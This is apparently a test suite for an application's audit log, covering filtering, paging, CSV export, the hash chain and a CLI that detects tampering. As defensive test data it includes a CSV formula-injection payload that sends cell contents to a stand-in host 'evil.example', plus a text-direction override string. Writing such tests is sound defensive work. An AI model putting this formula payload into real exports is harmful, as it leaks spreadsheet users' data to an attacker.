/**
 * The audit log on both stores: the page's filters (actor, action, dates) and stable paging,
 * its CSV export, no way in the application to change an entry, and the hash chain: intact
 * under concurrent writes from two instances, and `warden audit verify` (the real CLI, in a
 * child process) naming the entry that was changed or removed straight in the database.
 */
import { spawn } from 'node:child_process';
import path from 'node:path';
import { Kysely, PostgresDialect, sql } from 'kysely';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Config } from '../../src/config.js';
import type { DB } from '../../src/db/schema.js';
import { type Actor, AuditLog, GENESIS_HASH } from '../../src/events/audit.js';
import {
  type Client,
  makeApp,
  secondInstance,
  storeKindsToRun,
  type TestApp,
} from '../support/app.js';
import { csvObjects } from '../support/csv.js';
import { dayStart, HOUR, isoDay, lastAudit, signedIn } from './helpers.js';

const BIN = path.resolve(import.meta.dirname, '../../bin/warden.js');
const ROOT = 'root@audit.test';
const JOSE = 'Jos\u00e9.Admin@Example.test';
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** `warden audit verify` against the test's database, as an operator would run it. */
function verifyCli(
  config: Config,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const url = config.database.kind === 'sqlite' ? config.database.file : config.database.url;
  const child = spawn(process.execPath, [BIN, 'audit', 'verify'], {
    env: { PATH: process.env.PATH, HOME: process.env.HOME, DATABASE_URL: url, LOG_LEVEL: 'silent' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => {
    stdout += d;
  });
  child.stderr.on('data', (d) => {
    stderr += d;
  });
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

interface ListedJson {
  total: number;
  asOf: number;
  items: { id: number; action: string; actor_email: string | null; hash: string }[];
}

for (const { kind, skip } of await storeKindsToRun()) {
  describe.skipIf(skip !== null)(`audit log (${kind})`, () => {
    let t: TestApp;
    let admin: Client;
    /** Seeded row ids by name. */
    const ids: Record<string, number> = {};

    const list = async (search = '') => {
      const res = await admin.get(`/admin/audit${search}`, 'json');
      expect(res.statusCode, res.body).toBe(200);
      return res.json() as ListedJson;
    };
    const idsOf = (l: ListedJson) => l.items.map((i) => i.id);

    beforeAll(async () => {
      t = await makeApp(kind);
      const root = await t.createUser(ROOT, 'superuser');
      const jose = await t.createUser(JOSE, 'superuser');
      admin = (await signedIn(t, ROOT)).client;

      const as = (actor: Actor, at: number, action: string, target: string | null = null) =>
        new AuditLog(t.database.db, () => at).write(
          actor,
          { action, target, outcome: 'success', details: { note: 'a, "quoted", note' } },
          t.app.log,
        );
      const rootActor = { id: root.id, email: ROOT, ip: '203.0.113.1' };
      const joseActor = { id: jose.id, email: JOSE, ip: '203.0.113.2' };
      const last = async (name: string) => {
        ids[name] = await t.app.warden.audit.lastId();
      };
      await as(rootActor, dayStart(3) + HOUR, 'users.approve', 'user:7');
      await last('r1');
      await as(joseActor, dayStart(2), 'sessions.revoke', 'abc');
      await last('r2');
      await as({ id: null, email: 'cli', ip: null }, dayStart(1) - 1, 'sessions.cleanup_expired');
      await last('r3');
      await as(rootActor, dayStart(1) + 2 * HOUR, 'sessions.revoke', 'def');
      await last('r4');
      await as(
        { id: null, email: null, ip: '198.51.100.9' },
        dayStart(1) + 3 * HOUR,
        'csrf.refused',
      );
      await last('r5');
      await as(joseActor, dayStart(1) + 4 * HOUR, 'users.approve', EVIL);
      await last('r6');
    });

    afterAll(async () => {
      await t?.close();
    });

    const seeded = (names: string[]) => names.map((n) => ids[n]);

    it('should list every entry newest first', async () => {
      const all = await list(`?as_of=${ids.r6}`);
      expect(all.total).toBe(6);
      expect(idsOf(all)).toEqual(seeded(['r6', 'r5', 'r4', 'r3', 'r2', 'r1']));
    });

    it('should filter by actor, action and dates, alone and together', async () => {
      const q = (s: string) => list(`?as_of=${ids.r6}&${s}`).then(idsOf);
      expect(await q('actor=ROOT%40AUDIT')).toEqual(seeded(['r4', 'r1']));
      // Composed and decomposed forms of the same name, in another case.
      expect(await q(`actor=${encodeURIComponent('JOS\u00c9')}`)).toEqual(seeded(['r6', 'r2']));
      expect(await q(`actor=${encodeURIComponent('jose\u0301.admin')}`)).toEqual(
        seeded(['r6', 'r2']),
      );
      expect(await q('actor=cli')).toEqual(seeded(['r3']));
      expect(await q('actor=%25')).toEqual([]);
      expect(await q('action=sessions.revoke')).toEqual(seeded(['r4', 'r2']));
      expect(await q(`from=${isoDay(dayStart(2))}&to=${isoDay(dayStart(2))}`)).toEqual(
        seeded(['r3', 'r2']),
      );
      expect(await q(`from=${isoDay(dayStart(1))}`)).toEqual(seeded(['r6', 'r5', 'r4']));
      expect(await q(`to=${isoDay(dayStart(3))}`)).toEqual(seeded(['r1']));
      expect(await q('actor=root&action=users.approve')).toEqual(seeded(['r1']));
    });

    it('should answer 400 naming the field for a bad date or range', async () => {
      for (const [search, field] of [
        ['?from=2025-02-30', 'from'],
        ['?to=2025-13-01', 'to'],
        // An entry's id, which PostgreSQL keeps as an integer: a time sent for it was a 500.
        ['?as_of=1796576173797', 'as_of'],
        ['?as_of=2147483648', 'as_of'],
        [`?from=${isoDay(dayStart(1))}&to=${isoDay(dayStart(3))}`, 'from'],
      ]) {
        const res = await admin.get(`/admin/audit${search}`, 'json');
        expect(res.statusCode, search).toBe(400);
        expect(res.json().error.details.field).toBe(field);
      }
      const page = await admin.get('/admin/audit?from=nope', 'html');
      expect(page.statusCode).toBe(400);
      const csv = await admin.get('/admin/audit/export.csv?as_of=2147483648', 'json');
      expect(csv.statusCode).toBe(400);
      expect(csv.json().error.details.field).toBe('as_of');
      expect((await admin.get('/admin/audit?as_of=2147483647', 'json')).statusCode).toBe(200);
    });

    it('should render the page with the filters kept, escaped entries and an export link', async () => {
      const res = await admin.get(
        `/admin/audit?actor=jos%C3%A9&action=users.approve&as_of=${ids.r6}`,
        'html',
      );
      expect(res.statusCode).toBe(200);
      expect(res.body).toContain(`<tr data-audit-id="${ids.r6}">`);
      expect(res.body).not.toContain(`<tr data-audit-id="${ids.r1}">`);
      expect(res.body).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1');
      expect(res.body).toContain('<option value="users.approve" selected>');
      expect(res.body).toContain(
        `href="/admin/audit/export.csv?actor=jos%C3%A9&amp;action=users.approve&amp;as_of=${ids.r6}"`,
      );
      expect(res.body).toContain('href="/admin/audit"');
    });

    it('should say so when the action filtered by is one no entry has, rather than just 0 matching', async () => {
      const json = await admin.get('/admin/audit?action=users.aprove', 'json');
      expect(json.json()).toMatchObject({ total: 0, actionOnRecord: false });
      const known = await admin.get('/admin/audit?action=users.approve', 'json');
      expect(known.json().actionOnRecord).toBe(true);
      expect((await admin.get('/admin/audit', 'json')).json()).not.toHaveProperty('actionOnRecord');
      const typo = await admin.get('/admin/audit?action=users.aprove', 'html');
      expect(typo.statusCode).toBe(200);
      expect(typo.body).toContain('No entry has ever had the action <code>users.aprove</code>');
      expect(typo.body).toContain(
        '<option value="users.aprove" selected>users.aprove (none on record)',
      );
      // An action on record that these filters leave out is no typo.
      const none = await admin.get(
        `/admin/audit?action=users.approve&to=${isoDay(dayStart(5))}`,
        'html',
      );
      expect(none.body).toContain('No entry matches these filters.');
      expect(none.body).toContain('<option value="users.approve" selected>users.approve</option>');
    });

    it('should show a direction control in an entry as its escape, so it cannot reverse the rest', async () => {
      const actor = { id: null, email: 'bidi@audit.test', ip: null };
      const details = { name: '\u202eevil', query: 'role=admin' };
      await t.app.warden.audit.write(
        actor,
        { action: 'test.bidi', target: 'session:\u202eevil', outcome: 'success', details },
        t.app.log,
      );
      const res = await admin.get('/admin/audit?action=test.bidi', 'html');
      expect(res.body).toContain('{&quot;name&quot;:&quot;\\u202eevil&quot;');
      expect(res.body).toContain('session:\\u202eevil');
      expect(res.body).not.toContain('\u202e');
      // Stored as it was written: the export and the chain keep the character itself.
      const csv = await admin.get('/admin/audit/export.csv?action=test.bidi');
      expect(csv.body).toContain('\u202eevil');
    });

    it('should keep a page small beside an entry of megabytes, whose whole text stays in the export', async () => {
      // Revocations wrote every id they ended until they were capped: such entries stay.
      const ids3000 = Array.from({ length: 3_000 }, (_, i) => i.toString(16).padStart(64, '0'));
      await new AuditLog(t.database.db, () => Date.now()).write(
        { id: null, email: 'big@audit.test', ip: null },
        { action: 'test.big', outcome: 'success', details: { revoked: ids3000 } },
        t.app.log,
      );
      const res = await admin.get('/admin/audit?action=test.big', 'html');
      expect(res.statusCode).toBe(200);
      const row = /<tr data-audit-id="\d+">[\s\S]*?<\/tr>/.exec(res.body)?.[0] ?? '';
      expect(row).toContain(ids3000[0]);
      expect(row).toContain('the whole entry is in the CSV export');
      expect(row.length).toBeLessThan(6_000);
      expect(res.body).not.toContain(ids3000[2_999]);

      const csv = csvObjects((await admin.get('/admin/audit/export.csv?action=test.big')).body);
      expect(JSON.parse(csv[0].details).revoked).toEqual(ids3000);
    });

    it('should page through a snapshot without losing or repeating entries while rows arrive', async () => {
      const bulk = new AuditLog(t.database.db, () => Date.now());
      for (let i = 0; i < 110; i++) {
        await bulk.write(
          { id: null, email: 'pager@audit.test', ip: null },
          { action: 'test.page', outcome: 'success' },
          t.app.log,
        );
      }
      const first = await list('?action=test.page');
      expect(first.total).toBe(110);
      // Ten more arrive while someone reads page 1.
      for (let i = 0; i < 10; i++) {
        await bulk.write(
          { id: null, email: 'pager@audit.test', ip: null },
          { action: 'test.page', outcome: 'success' },
          t.app.log,
        );
      }
      const second = await list(`?action=test.page&page=2&as_of=${first.asOf}`);
      const third = await list(`?action=test.page&page=3&as_of=${first.asOf}`);
      const seen = [...idsOf(first), ...idsOf(second), ...idsOf(third)];
      expect(seen.length).toBe(110);
      expect(new Set(seen).size).toBe(110);
      expect(seen).toEqual([...seen].sort((a, b) => b - a));
      expect((await list('?action=test.page')).total).toBe(120);
    });

    it('should export the filtered entries as CSV, formula cells neutralised, and audit the export', async () => {
      const search = `?actor=jos%C3%A9&as_of=${ids.r6}`;
      const res = await admin.get(`/admin/audit/export.csv${search}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="audit-\d{8}-\d{6}\.csv"$/,
      );

      const rows = csvObjects(res.body);
      expect(rows.map((r) => Number(r.id))).toEqual(idsOf(await list(search)));
      const evil = rows.find((r) => Number(r.id) === ids.r6)!;
      expect(evil.target).toBe(`'${EVIL}`);
      expect(evil.actor_email).toBe(JOSE);
      expect(JSON.parse(evil.details)).toEqual({ note: 'a, "quoted", note' });
      expect(evil.hash).toMatch(/^[0-9a-f]{64}$/);

      const audit = await lastAudit(t, 'audit.export');
      expect(audit.actor_email).toBe(ROOT);
      expect(audit.outcome).toBe('success');
      expect(audit.details).toMatchObject({ format: 'csv', counts: { rows: 2 } });
      expect(audit.target).toContain('actor=jos%C3%A9');
    });

    it('should offer no way to change or remove an entry', async () => {
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE'] as const) {
        for (const url of ['/admin/audit', `/admin/audit/${ids.r1}`]) {
          const res = await admin.app.inject({
            method,
            url,
            headers: { cookie: admin.cookieHeader(), accept: 'application/json' },
          });
          // The list answers reading only (405, saying so); one entry has no address at all.
          expect(res.statusCode, `${method} ${url}`).toBe(url === '/admin/audit' ? 405 : 404);
        }
      }
      const methods = Object.getOwnPropertyNames(AuditLog.prototype).sort();
      expect(methods).toEqual([
        'actions',
        'batches',
        'constructor',
        'lastId',
        'list',
        'verify',
        'write',
      ]);
    });

    it('should chain entries of any characters so that verify finds them intact', async () => {
      const odd = 'é 😀 \u202e "q" \\ \n\t\u0001 \ud800 lone';
      await t.app.warden.audit.write(
        { id: null, email: `x${odd}@audit.test`, ip: odd },
        { action: 'test.chars', target: odd, outcome: 'success', details: { odd } },
        t.app.log,
      );
      expect(await t.app.warden.audit.verify()).toMatchObject({ intact: true });
    });

    it('should keep one chain when the database reads at REPEATABLE READ by default', async () => {
      if (t.config.database.kind !== 'postgres') return;
      // Two writers whose every statement is its own REPEATABLE READ transaction, as when a
      // database sets default_transaction_isolation: each reads the last hash before the lock.
      const writers = [0, 1].map(
        () =>
          new Kysely<DB>({
            dialect: new PostgresDialect({
              pool: new pg.Pool({
                connectionString: (t.config.database as { url: string }).url,
                options: '-c default_transaction_isolation=repeatable\\ read',
                max: 4,
              }),
            }),
          }),
      );
      try {
        const [level] = (
          await sql<{
            level: string;
          }>`select current_setting('transaction_isolation') as level`.execute(writers[0]!)
        ).rows;
        expect(level?.level).toBe('repeatable read');
        const actor = { id: null, email: 'rr@audit.test', ip: null };
        await Promise.all(
          Array.from({ length: 40 }, (_, i) =>
            new AuditLog(writers[i % 2]!, Date.now, 'postgres').write(
              actor,
              { action: 'test.repeatable_read', outcome: 'success', details: { i } },
              t.app.log,
            ),
          ),
        );
      } finally {
        await Promise.all(writers.map((w) => w.destroy()));
      }
      expect(await t.app.warden.audit.verify()).toMatchObject({ intact: true });
    });

    it('should keep one unbroken chain when two instances write at once', async () => {
      const b = await secondInstance(t);
      const actor = { id: null, email: 'race@audit.test', ip: null };
      const write = (app: typeof b, i: number) =>
        app.warden.audit.write(
          actor,
          { action: 'test.race', outcome: 'success', details: { i } },
          app.log,
        );
      await Promise.all(Array.from({ length: 60 }, (_, i) => write(i % 2 === 0 ? t.app : b, i)));

      const check = await t.app.warden.audit.verify();
      expect(check.intact).toBe(true);
      const rows = await t.database.db
        .selectFrom('audit_log')
        .select(['id', 'prev_hash', 'hash'])
        .orderBy('id')
        .execute();
      expect(check).toMatchObject({ count: rows.length });
      // No fork: every hash is the predecessor of exactly one row.
      expect(new Set(rows.map((r) => r.prev_hash)).size).toBe(rows.length);
      expect(rows[0].prev_hash).toBe(GENESIS_HASH);
    });

    it('should make `warden audit verify` name an entry changed or removed in the database', async () => {
      const intact = await verifyCli(t.config);
      expect(intact.code, intact.stderr).toBe(0);
      const total = Number(
        (
          await t.database.db
            .selectFrom('audit_log')
            .select((eb) => eb.fn.countAll<number>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
      expect(intact.stdout).toContain(`${total} entries, chain intact`);

      // Someone with database access rewrites who did something.
      await sql`update audit_log set actor_email = 'nobody@audit.test' where id = ${ids.r4}`.execute(
        t.database.db,
      );
      const changed = await verifyCli(t.config);
      expect(changed.code).toBe(1);
      expect(changed.stdout).toContain(`audit log broken at row ${ids.r4} `);
      expect(changed.stdout).toContain('contents do not match its hash');

      // Put back, then remove an entry instead: the one after it no longer links.
      await sql`update audit_log set actor_email = ${ROOT} where id = ${ids.r4}`.execute(
        t.database.db,
      );
      expect((await t.app.warden.audit.verify()).intact).toBe(true);
      await sql`delete from audit_log where id = ${ids.r2}`.execute(t.database.db);
      const check = await t.app.warden.audit.verify();
      expect(check).toMatchObject({ intact: false, broken: { id: ids.r3 } });
      expect(!check.intact && check.broken.reason).toContain('prev_hash does not match');
    });
  });
}
